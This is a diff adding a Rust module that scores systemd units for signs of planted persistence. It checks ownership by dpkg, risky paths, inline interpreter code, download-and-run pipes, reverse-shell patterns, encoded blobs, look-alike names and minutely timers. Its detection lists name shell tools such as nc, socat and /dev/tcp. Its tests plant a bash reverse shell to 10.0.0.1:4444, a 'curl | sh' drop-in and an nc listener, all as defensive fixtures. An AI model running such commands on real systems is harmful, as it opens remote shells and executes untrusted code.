@@ -1,0 +1,518 @@
+//! Findings: each unit judged on what it runs, how, and who put it there, with every reason in
+//! words and its weight, so that a responder can act on the reasons rather than on a number.
+
+use crate::dpkg::{Dpkg, Ownership};
+use crate::enumerate::{read_regular, FoundUnit, Fragment};
+use crate::root::Root;
+use crate::unit::{parse, parse_exec, ExecCommand, Unit};
+
+/// Unit files and drop-ins larger than this are not parsed (reported instead).
+pub const MAX_UNIT_BYTES: u64 = 4 << 20;
+
+/// One reason, weighed.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Reason {
+    pub weight: u32,
+    pub text: String,
+}
+
+/// One unit, judged.
+#[derive(Clone, Debug)]
+pub struct Finding {
+    pub unit: String,
+    /// The file that decides the unit (or what it is: masked, alias, broken).
+    pub fragment: String,
+    pub dropins: Vec<String>,
+    pub wanted_by: Vec<String>,
+    /// The package owning the fragment, `unowned`, or `-` (masked, alias, broken).
+    pub owner: String,
+    /// `Exec*=` lines of the effective unit, as `Key=value`.
+    pub exec: Vec<String>,
+    pub reasons: Vec<Reason>,
+}
+
+impl Finding {
+    pub fn score(&self) -> u32 {
+        self.reasons.iter().map(|r| r.weight).sum::<u32>().min(100)
+    }
+
+    pub fn severity(&self) -> &'static str {
+        match self.score() {
+            70.. => "critical",
+            50..=69 => "high",
+            25..=49 => "medium",
+            1..=24 => "low",
+            0 => "info",
+        }
+    }
+}
+
+const EXEC_KEYS: &[&str] = &[
+    "ExecStartPre",
+    "ExecStart",
+    "ExecStartPost",
+    "ExecReload",
+    "ExecStop",
+    "ExecStopPost",
+    "ExecCondition",
+];
+
+/// Places anyone can write to, or that hide files.
+fn risky_place(path: &str) -> Option<&'static str> {
+    if ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/"]
+        .iter()
+        .any(|p| path.starts_with(p))
+    {
+        return Some("a world-writable directory");
+    }
+    if path
+        .split('/')
+        .any(|c| c.starts_with('.') && c.len() > 1 && c != "..")
+    {
+        return Some("a hidden (dot) path");
+    }
+    None
+}
+
+/// Interpreters and the flag that runs code given inline.
+const INLINE: &[(&str, &[&str])] = &[
+    ("sh", &["-c"]),
+    ("bash", &["-c"]),
+    ("dash", &["-c"]),
+    ("zsh", &["-c"]),
+    ("ksh", &["-c"]),
+    ("python", &["-c"]),
+    ("python2", &["-c"]),
+    ("python3", &["-c"]),
+    ("perl", &["-e", "-E"]),
+    ("ruby", &["-e"]),
+    ("php", &["-r"]),
+    ("node", &["-e", "--eval"]),
+    ("lua", &["-e"]),
+];
+
+fn base(path: &str) -> &str {
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+/// Reasons found in one command.
+fn judge_command(key: &str, c: &ExecCommand, reasons: &mut Vec<Reason>) {
+    let mut add = |weight: u32, text: String| {
+        if !reasons.iter().any(|r| r.text == text) {
+            reasons.push(Reason { weight, text });
+        }
+    };
+    if let Some(place) = risky_place(&c.path) {
+        add(40, format!("{key} runs {} from {place}", c.path));
+    }
+    let name = base(&c.path);
+    let name = name.trim_end_matches(|ch: char| ch.is_ascii_digit() || ch == '.');
+    let inline = INLINE
+        .iter()
+        .find(|(n, _)| *n == name)
+        .filter(|(_, flags)| c.argv.iter().skip(1).any(|a| flags.contains(&a.as_str())));
+    let code = c.argv.join(" ");
+    if let Some((n, _)) = inline {
+        add(25, format!("{key} runs inline code with {n}"));
+    }
+    let lower = code.to_ascii_lowercase();
+    let downloads = ["curl ", "wget ", "fetch ", "tftp "]
+        .iter()
+        .any(|d| lower.contains(d));
+    let runs = [
+        "| sh", "|sh", "| bash", "|bash", "| python", "chmod +x", "; sh ", "&& sh ",
+    ]
+    .iter()
+    .any(|r| lower.contains(r));
+    if downloads && runs {
+        add(45, format!("{key} downloads and runs code"));
+    } else if downloads {
+        add(
+            20,
+            format!(
+                "{key} downloads with {}",
+                if lower.contains("curl") {
+                    "curl"
+                } else {
+                    "wget"
+                }
+            ),
+        );
+    }
+    if [
+        "/dev/tcp/",
+        "/dev/udp/",
+        " -e /bin/",
+        "exec:",
+        "nc -l",
+        "ncat ",
+        "socat ",
+        "bash -i",
+        "sh -i",
+    ]
+    .iter()
+    .any(|s| lower.contains(s))
+    {
+        add(
+            50,
+            format!("{key} has the shape of a reverse or bind shell"),
+        );
+    }
+    if lower.contains("base64 -d") || lower.contains("base64 --decode") || has_long_blob(&code) {
+        add(30, format!("{key} decodes or carries an encoded blob"));
+    }
+    for a in c.argv.iter().skip(1).filter(|a| a.starts_with('/')) {
+        if let Some(place) = risky_place(a) {
+            add(20, format!("{key} uses {a} in {place}"));
+        }
+    }
+}
+
+/// A base64 or hex run of 64 characters or more.
+fn has_long_blob(s: &str) -> bool {
+    let mut run = 0;
+    for ch in s.chars() {
+        if ch.is_ascii_alphanumeric() || ch == '+' || ch == '/' || ch == '=' {
+            run += 1;
+            if run >= 64 {
+                return true;
+            }
+        } else {
+            run = 0;
+        }
+    }
+    false
+}
+
+/// Well-known unit names, for look-alikes (edit distance 1).
+const KNOWN: &[&str] = &[
+    "rsyslog",
+    "syslog",
+    "systemd-journald",
+    "ssh",
+    "sshd",
+    "cron",
+    "crond",
+    "dbus",
+    "systemd-logind",
+    "systemd-resolved",
+    "systemd-networkd",
+    "systemd-timesyncd",
+    "systemd-udevd",
+    "polkit",
+    "auditd",
+    "networking",
+    "NetworkManager",
+    "getty@",
+    "apache2",
+    "nginx",
+    "docker",
+    "containerd",
+    "snapd",
+];
+
+fn edit_distance_is_one(a: &str, b: &str) -> bool {
+    let (a, b): (Vec<char>, Vec<char>) = (a.chars().collect(), b.chars().collect());
+    if a == b || a.len().abs_diff(b.len()) > 1 {
+        return false;
+    }
+    let (mut i, mut j, mut edits) = (0, 0, 0);
+    while i < a.len() && j < b.len() {
+        if a[i] == b[j] {
+            i += 1;
+            j += 1;
+            continue;
+        }
+        edits += 1;
+        if edits > 1 {
+            return false;
+        }
+        match a.len().cmp(&b.len()) {
+            std::cmp::Ordering::Greater => i += 1,
+            std::cmp::Ordering::Less => j += 1,
+            std::cmp::Ordering::Equal => {
+                i += 1;
+                j += 1;
+            }
+        }
+    }
+    edits + (a.len() - i) + (b.len() - j) == 1
+}
+
+/// Judges every unit found.
+pub fn judge(root: &Root, db: &Dpkg, units: &[FoundUnit]) -> Vec<Finding> {
+    units.iter().map(|u| judge_unit(root, db, u)).collect()
+}
+
+fn ownership_reason(
+    what: &str,
+    path: &str,
+    own: &Ownership,
+    weight_unowned: u32,
+) -> Option<Reason> {
+    match own {
+        Ownership::Unowned => Some(Reason {
+            weight: weight_unowned,
+            text: format!("{what} {path} is not owned by any installed package"),
+        }),
+        Ownership::Modified { packages, .. } => Some(Reason {
+            weight: 40,
+            text: format!(
+                "{what} {path} differs from what {} shipped",
+                packages.join(", ")
+            ),
+        }),
+        _ => None,
+    }
+}
+
+fn judge_unit(root: &Root, db: &Dpkg, u: &FoundUnit) -> Finding {
+    let mut reasons = Vec::new();
+    let (fragment, owner) = match &u.fragment {
+        Fragment::File(p) => {
+            let own = db.check(root, p);
+            let owner = match &own {
+                Ownership::Unowned => "unowned".to_string(),
+                Ownership::Unmodified(p) | Ownership::NoChecksum(p) => p.join(", "),
+                Ownership::Modified { packages, .. } => {
+                    format!("{} (modified)", packages.join(", "))
+                }
+            };
+            reasons.extend(ownership_reason("unit file", p, &own, 30));
+            (p.clone(), owner)
+        }
+        Fragment::Masked(p) => (format!("{p} (masked)"), "-".into()),
+        Fragment::Alias { link, target } => (format!("{link} -> {target}"), "-".into()),
+        Fragment::Broken { path, why } => (format!("{path} ({why})"), "-".into()),
+    };
+    let stem = u.name.rsplit_once('.').map_or(u.name.as_str(), |(s, _)| s);
+    if let Some(k) = KNOWN.iter().find(|k| edit_distance_is_one(stem, k)) {
+        if !KNOWN.contains(&stem) && owner == "unowned" {
+            reasons.push(Reason {
+                weight: 30,
+                text: format!("the name {stem} is one character away from {k}"),
+            });
+        }
+    }
+    let mut exec = Vec::new();
+    if let Fragment::File(p) = &u.fragment {
+        let mut files = Vec::new();
+        for path in std::iter::once(p).chain(u.dropins.iter()) {
+            match read_regular(root, path, MAX_UNIT_BYTES) {
+                Ok(bytes) => files.push(parse(&String::from_utf8_lossy(&bytes))),
+                Err(e) => reasons.push(Reason {
+                    weight: 10,
+                    text: format!("unreadable: {e}"),
+                }),
+            }
+        }
+        for d in &u.dropins {
+            let own = db.check(root, d);
+            reasons.extend(ownership_reason("drop-in", d, &own, 25));
+        }
+        if let Some((first, rest)) = files.split_first() {
+            let rest: Vec<&crate::unit::UnitFile> = rest.iter().collect();
+            let unit = Unit::new(first, &rest);
+            for key in EXEC_KEYS {
+                for e in unit.list("Service", key) {
+                    exec.push(format!("{key}={}", e.value));
+                    match parse_exec(&e.value) {
+                        Ok(commands) => {
+                            for c in &commands {
+                                judge_command(key, c, &mut reasons);
+                                if c.path.starts_with('/') && risky_place(&c.path).is_none() {
+                                    if root.resolve(&c.path).is_err() {
+                                        // A missing executable runs nothing (and with `-` its
+                                        // failure is ignored): worth a mention, not an alarm.
+                                        if !c.prefixes.ignore_failure {
+                                            reasons.push(Reason {
+                                                weight: 5,
+                                                text: format!(
+                                                    "{key} names {}, which does not exist",
+                                                    c.path
+                                                ),
+                                            });
+                                        }
+                                        continue;
+                                    }
+                                    let own = db.check(root, &c.path);
+                                    if let Some(r) =
+                                        ownership_reason("executable", &c.path, &own, 25)
+                                    {
+                                        reasons.push(r);
+                                    }
+                                }
+                            }
+                        }
+                        Err(why) => reasons.push(Reason {
+                            weight: 10,
+                            text: format!("{key} that systemd refuses: {why}"),
+                        }),
+                    }
+                }
+            }
+            if let Some(wd) = unit.get("Service", "WorkingDirectory") {
+                if let Some(place) = risky_place(wd.value.trim_start_matches('-')) {
+                    reasons.push(Reason {
+                        weight: 20,
+                        text: format!("works in {} ({place})", wd.value),
+                    });
+                }
+            }
+            let restart_always = unit
+                .get("Service", "Restart")
+                .is_some_and(|r| r.value == "always");
+            let short = unit.get("Service", "RestartSec").is_some_and(|r| {
+                r.value
+                    .trim_end_matches('s')
+                    .parse::<u32>()
+                    .is_ok_and(|s| s <= 10)
+            });
+            if restart_always && short {
+                reasons.push(Reason {
+                    weight: 10,
+                    text: "restarts always, within 10 s".into(),
+                });
+            }
+            for cal in unit.list("Timer", "OnCalendar") {
+                let v = cal.value.to_ascii_lowercase();
+                if v == "minutely" || v.starts_with("*:*") || v.contains("*-*-* *:*:") {
+                    reasons.push(Reason {
+                        weight: 20,
+                        text: format!("fires every minute (OnCalendar={})", cal.value),
+                    });
+                }
+            }
+        }
+    }
+    Finding {
+        unit: u.name.clone(),
+        fragment,
+        dropins: u.dropins.clone(),
+        wanted_by: u.wanted_by.clone(),
+        owner,
+        exec,
+        reasons,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::enumerate::enumerate;
+    use crate::root::SYSTEM_UNIT_PATH;
+
+    #[test]
+    fn planted_units_score_high_and_packaged_ones_do_not() {
+        let b = std::env::temp_dir().join(format!("unithunt-score-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&b);
+        let put = |p: &str, t: &str| {
+            let p = b.join(p.trim_start_matches('/'));
+            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+            std::fs::write(p, t).unwrap();
+        };
+        let packaged = "[Service]\nExecStart=/usr/sbin/cron -f\n";
+        put("/usr/lib/systemd/system/cron.service", packaged);
+        put("/usr/sbin/cron", "ELF");
+        put(
+            "/var/lib/dpkg/info/cron.list",
+            "/lib/systemd/system/cron.service\n/usr/sbin/cron\n",
+        );
+        put(
+            "/var/lib/dpkg/info/cron.md5sums",
+            &format!("{}  lib/systemd/system/cron.service\n", md5_hex(packaged)),
+        );
+        put(
+            "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.service",
+            "[Service]\nType=simple\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\nRestart=always\nRestartSec=5\n",
+        );
+        put(
+            "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.timer",
+            "[Timer]\nOnCalendar=*:*:00\n[Install]\nWantedBy=timers.target\n",
+        );
+        put(
+            "/etc/systemd/system/sshd-update.service",
+            "[Service]\nExecStart=/tmp/.x/upd\n",
+        );
+        put(
+            "/etc/systemd/system/cron.service.d/override.conf",
+            "[Service]\nExecStart=\nExecStart=/bin/sh -c 'curl -s http://x/a | sh'\n",
+        );
+        put(
+            "/etc/systemd/system/syslogd.service",
+            "[Service]\nExecStart=/usr/bin/nc -l 4444\n",
+        );
+        let root = Root::new(&b);
+        let db = Dpkg::load(&root);
+        let path: Vec<String> = SYSTEM_UNIT_PATH.iter().map(|s| s.to_string()).collect();
+        let findings = judge(&root, &db, &enumerate(&root, &path));
+        let get = |n: &str| findings.iter().find(|f| f.unit == n).unwrap();
+        let shell = get("dbus-org.freedesktop.resolved.service");
+        assert_eq!(shell.severity(), "critical", "{:?}", shell.reasons);
+        assert!(shell
+            .reasons
+            .iter()
+            .any(|r| r.text.contains("reverse or bind shell")));
+        let timer = get("dbus-org.freedesktop.resolved.timer");
+        assert!(
+            timer
+                .reasons
+                .iter()
+                .any(|r| r.text.contains("every minute")),
+            "{:?}",
+            timer.reasons
+        );
+        assert!(matches!(timer.severity(), "medium" | "high" | "critical"));
+        assert_eq!(get("sshd-update.service").severity(), "critical");
+        // The packaged cron.service, overridden by a drop-in that downloads and runs code.
+        let cron = get("cron.service");
+        assert_eq!(cron.owner, "cron");
+        assert!(
+            cron.reasons
+                .iter()
+                .any(|r| r.text.contains("downloads and runs")),
+            "{:?}",
+            cron.reasons
+        );
+        assert_eq!(
+            cron.exec,
+            ["ExecStart=/bin/sh -c 'curl -s http://x/a | sh'"]
+        );
+        // One edit from syslog, unowned, listening with nc.
+        let lookalike = get("syslogd.service");
+        assert!(lookalike
+            .reasons
+            .iter()
+            .any(|r| r.text.contains("one character away from syslog")));
+        assert!(
+            matches!(lookalike.severity(), "high" | "critical"),
+            "{:?}",
+            lookalike.reasons
+        );
+        // Without the drop-in, the packaged unit is clean.
+        std::fs::remove_dir_all(b.join("etc/systemd/system/cron.service.d")).unwrap();
+        let findings = judge(&root, &db, &enumerate(&root, &path));
+        let cron = findings.iter().find(|f| f.unit == "cron.service").unwrap();
+        assert_eq!(cron.score(), 0, "{:?}", cron.reasons);
+        let _ = std::fs::remove_dir_all(&b);
+    }
+
+    fn md5_hex(s: &str) -> String {
+        use md5::{Digest, Md5};
+        Md5::digest(s.as_bytes())
+            .iter()
+            .map(|b| format!("{b:02x}"))
+            .collect()
+    }
+
+    #[test]
+    fn one_edit_apart() {
+        assert!(edit_distance_is_one("syslogd", "syslog"));
+        assert!(edit_distance_is_one("rsyslogd", "rsyslog"));
+        assert!(edit_distance_is_one("sys1og", "syslog"));
+        assert!(edit_distance_is_one("crn", "cron"));
+        assert!(!edit_distance_is_one("cron", "cron"));
+        assert!(!edit_distance_is_one("crond2x", "cron"));
+        assert!(!edit_distance_is_one("nginx", "ssh"));
+    }
+}
